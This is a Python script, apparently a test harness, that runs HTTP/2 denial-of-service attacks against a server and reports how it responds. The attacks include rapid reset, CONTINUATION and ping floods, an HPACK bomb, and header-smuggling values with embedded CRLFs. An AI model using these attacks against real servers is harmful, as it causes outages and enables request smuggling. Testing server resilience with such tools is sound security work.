"""Attacks an HTTP/2 port, one connection for each attack, and says how each ended.

Argument: JSON {"to": "ip:port", "authority": "...", "fields": [[name, value]], "cert", "key" (files, for TLS),
"attacks": [names]}. "fields" are added to every request. Prints {attack: {"goaway": code or null, "closed": bool,
"resets": {code: count}, "statuses": {status: count}, "alive": bool}}: "alive" when a good request on the same
connection is still answered 200 ("malformed": when each request was refused, on a connection of its own).
"""

import json
import select
import socket
import ssl
import struct
import sys
import threading
import time
from collections import Counter

import hpack

DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DEADLINE = 20


def frame(kind, flags, stream, payload=b"", length=None):
    length = len(payload) if length is None else length
    return struct.pack(">I", length)[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Attack:
    """One connection: writes as far as the peer reads, and takes in all that the peer says."""

    def __init__(self, job, settings=b""):
        self.job = job
        host, port = job["to"].rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=DEADLINE)
        if "cert" in job:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            context.load_cert_chain(job["cert"], job["key"])
            context.set_alpn_protocols(["h2"])
            self.socket = context.wrap_socket(self.socket)
        self.socket.setblocking(False)
        self.encoder, self.decoder, self.buffer = hpack.Encoder(), hpack.Decoder(), b""
        self.goaway, self.closed, self.resets, self.statuses = None, False, Counter(), Counter()
        self.answers = {}
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def fields(self, path="/", method="GET", more=()):
        fields = [(":method", method), (":scheme", "http"), (":authority", self.job["authority"]), (":path", path)]
        return fields + [tuple(pair) for pair in self.job.get("fields", [])] + list(more)

    def block(self, fields):
        return self.encoder.encode(fields)

    def request(self, stream, flags=END_STREAM | END_HEADERS, **more):
        return frame(HEADERS, flags, stream, self.block(self.fields(**more)))

    def send(self, data):
        """False once the peer has ended the connection."""
        view, end = memoryview(data), time.monotonic() + DEADLINE
        while len(view) and not self.closed and time.monotonic() < end:
            self.pump()
            try:
                view = view[self.socket.send(view):]
            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                select.select([self.socket], [self.socket], [], 0.05)
            except OSError:
                self.pump()
                self.closed = True
        return not self.closed and self.goaway is None

    def pump(self):
        try:
            while True:
                received = self.socket.recv(1 << 16)
                if not received:
                    self.closed = True
                    return
                self.take(received)
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return
        except OSError:
            self.closed = True

    def take(self, received):
        self.buffer += received
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, flags = self.buffer[3], self.buffer[4]
            stream = int.from_bytes(self.buffer[5:9], "big")
            payload, self.buffer = self.buffer[9:9 + length], self.buffer[9 + length:]
            if kind == GOAWAY:
                self.goaway = int.from_bytes(payload[4:8], "big")
            elif kind == RST:
                self.resets[int.from_bytes(payload, "big")] += 1
            elif kind == HEADERS:
                status = dict(self.decoder.decode(payload)).get(":status")
                if status:
                    self.answers[stream] = status
                    self.statuses[status] += 1

    def wait(self, done, seconds=DEADLINE):
        end = time.monotonic() + seconds
        while not done() and not self.closed and time.monotonic() < end:
            select.select([self.socket], [], [], 0.05)
            self.pump()
        return done()

    def ended(self):
        return self.wait(lambda: self.goaway is not None or self.closed)

    def alive(self, stream):
        self.send(self.request(stream, path="/alive"))
        return self.wait(lambda: stream in self.answers or self.goaway is not None) and self.answers.get(stream) == "200"


def streams(count):
    return range(1, 2 * count, 2)


def rapid_reset(job):
    attack = Attack(job)
    numbers = list(streams(20000))
    for at in range(0, len(numbers), 200):
        batch = numbers[at:at + 200]
        cancelled = b"".join(attack.request(n) + frame(RST, 0, n, struct.pack(">I", 8)) for n in batch)
        if not attack.send(cancelled):
            break
    attack.ended()
    return attack, None


def reset_by_error(job):
    """Makes the server reset streams by itself ("MadeYouReset"): windows that grow beyond their limit."""
    attack = Attack(job)
    numbers = list(streams(20000))
    for at in range(0, len(numbers), 200):
        batch = numbers[at:at + 200]
        if not attack.send(b"".join(attack.request(n) + frame(WINDOW, 0, n, b"\x7f\xff\xff\xff") for n in batch)):
            break
    attack.ended()
    return attack, None


def continuation_flood(job):
    attack = Attack(job)
    attack.send(frame(HEADERS, END_STREAM, 1, attack.block(attack.fields())))
    field = attack.block([("x-" + "a" * 100, "b" * 1000)])
    for _ in range(20000):
        if not attack.send(frame(CONTINUATION, 0, 1, field) * 10):
            break
    attack.ended()
    return attack, None


def empty_continuations(job):
    attack = Attack(job)
    attack.send(frame(HEADERS, END_STREAM, 1, attack.block(attack.fields())))
    for _ in range(1000):
        if not attack.send(frame(CONTINUATION, 0, 1) * 1000):
            break
    attack.ended()
    return attack, None


def hpack_bomb(job):
    """A large field, put into the table once, then named by one byte, thousands of times."""
    attack = Attack(job)
    attack.send(attack.request(1, more=[("x-bomb", "b" * 3900)]))
    attack.wait(lambda: 1 in attack.answers)
    bomb = attack.block(attack.fields()) + b"\xbe" * 15000
    attack.send(frame(HEADERS, END_STREAM | END_HEADERS, 3, bomb))
    attack.ended()
    return attack, None


def large_head(job):
    """The same, but not much larger than a head may be."""
    attack = Attack(job)
    attack.send(attack.request(1, more=[("x-bomb", "b" * 3900)]))
    attack.wait(lambda: 1 in attack.answers)
    attack.send(frame(HEADERS, END_STREAM | END_HEADERS, 3, attack.block(attack.fields()) + b"\xbe" * 20))
    attack.wait(lambda: 3 in attack.answers or attack.resets or attack.goaway is not None)
    return attack, attack.alive(5)


def huge_table(job):
    """A table size update beyond what the server allowed."""
    attack = Attack(job)
    attack.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, b"\x3f\xe1\xff\xff\x07" + attack.block(attack.fields())))
    attack.ended()
    return attack, None


def flood(piece, times=300):
    def run(job):
        attack = Attack(job)
        for _ in range(times):
            if not attack.send(piece * 1000):
                break
        return attack, attack.alive(1) if attack.goaway is None and not attack.closed else None
    return run


def deaf_flood(job):
    """Pings and settings from somebody who reads none of the answers."""
    attack = Attack(job)
    attack.pump = lambda: None
    piece = (frame(PING, 0, 0, b"12345678") + frame(SETTINGS, 0, 0)) * 1000
    end = time.monotonic() + 2
    attack.socket.setblocking(False)
    while time.monotonic() < end:
        try:
            attack.socket.send(piece)
        except (BlockingIOError, ssl.SSLWantWriteError):
            time.sleep(0.02)
        except OSError:
            break
    attack.socket.close()
    return attack, None


def many_streams(job):
    """Requests that never end; those beyond the server's limit are refused, one by one."""
    attack = Attack(job)
    for number in streams(3000):
        if not attack.send(attack.request(number, flags=END_HEADERS, method="POST")):
            break
    attack.wait(lambda: sum(attack.resets.values()) >= 1 or attack.goaway is not None)
    return attack, None


def expect_end(*frames):
    def run(job):
        attack = Attack(job)
        attack.send(b"".join(f(attack) if callable(f) else f for f in frames))
        attack.ended()
        return attack, None
    return run


def malformed(job):
    """Requests that HTTP/2 calls malformed, or that mean trouble once they are HTTP/1.1."""
    odd = [
        [("transfer-encoding", "chunked")],
        [("connection", "close")],
        [("X-Upper", "a")],
        [("x-crlf", "a\r\nGET /smuggled HTTP/1.1")],
        [("x-nul", "a\0b")],
        [("x y", "a")],
        [("x:y", "a")],
        [("", "a")],
        [("te", "gzip")],
        [("content-length", "5")],
        [("content-length", "0"), ("content-length", "5")],
        [("content-length", "x")],
        [(":method", "POST")],
        [(":path", "/smuggled")],
        [(":unknown", "a")],
        [("host", "evil"), ("host", "other")],
    ]
    requests = [{"path": "/odd", "more": more} for more in odd]
    requests += [{"path": path} for path in ("", "smuggled", "/a b", "/a\r\nx: y", "/a\0")]
    whole, refused = Attack(job), 0
    for request in requests:
        attack = Attack(job)
        attack.send(attack.request(1, **request))
        refused += attack.wait(lambda: bool(attack.answers or attack.resets) or attack.goaway is not None) or attack.closed
        whole.statuses += attack.statuses
        whole.resets += attack.resets
        attack.socket.close()
    return whole, refused == len(requests)


def stalled(job):
    """Many large responses that are never taken: no window to send them in. Holds them until it is killed."""
    attack = Attack(job, settings=struct.pack(">HI", 4, 1))
    for number in streams(90):
        attack.send(attack.request(number, path=job.get("path", "/")))
    attack.wait(lambda: len(attack.answers) >= 90)
    print(json.dumps({"stalled": len(attack.answers)}), flush=True)
    threading.Event().wait()


ATTACKS = {
    "rapid_reset": rapid_reset,
    "reset_by_error": reset_by_error,
    "continuation_flood": continuation_flood,
    "empty_continuations": empty_continuations,
    "hpack_bomb": hpack_bomb,
    "large_head": large_head,
    "huge_table": huge_table,
    "ping_flood": flood(frame(PING, 0, 0, b"12345678")),
    "settings_flood": flood(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))),
    "priority_flood": flood(frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 1))),
    "unknown_flood": flood(frame(0xfa, 0, 0, b"x" * 100)),
    "empty_data_flood": lambda job: empty_data(job),
    "deaf_flood": deaf_flood,
    "many_streams": many_streams,
    "malformed": malformed,
    "stalled": stalled,
    "oversized_frame": expect_end(frame(DATA, 0, 1, b"", length=0xffffff)),
    "window_overflow": expect_end(frame(WINDOW, 0, 0, struct.pack(">I", 0x7fffffff)) * 2),
    "zero_update": expect_end(frame(WINDOW, 0, 0, b"\0\0\0\0")),
    "data_on_idle": expect_end(frame(DATA, 0, 5, b"x")),
    "even_stream": expect_end(lambda attack: attack.request(2)),
    "stream_zero": expect_end(lambda attack: attack.request(0)),
    "push": expect_end(frame(PUSH, END_HEADERS, 1, b"\0\0\0\2")),
    "bad_hpack": expect_end(frame(HEADERS, END_STREAM | END_HEADERS, 1, b"\xff\xff\xff\xff\xff\xff")),
    "bad_settings": expect_end(frame(SETTINGS, 0, 0, b"123")),
    "bad_ping": expect_end(frame(PING, 0, 0, b"1")),
    "stray_continuation": expect_end(frame(CONTINUATION, END_HEADERS, 1, b"")),
    "interleaved": expect_end(lambda attack: attack.request(1, flags=END_STREAM) + frame(PING, 0, 0, b"12345678")),
}


def empty_data(job):
    attack = Attack(job)
    attack.send(attack.request(1, flags=END_HEADERS, method="POST"))
    for _ in range(300):
        if not attack.send(frame(DATA, 0, 1) * 1000):
            break
    return attack, attack.alive(3)


if __name__ == "__main__":
    job = json.loads(sys.argv[1])
    result = {}
    for name in job["attacks"]:
        attack, alive = ATTACKS[name](job)
        result[name] = {"goaway": attack.goaway, "closed": attack.closed, "alive": alive,
                        "resets": attack.resets, "statuses": attack.statuses}
        attack.socket.close()
    print(json.dumps(result))
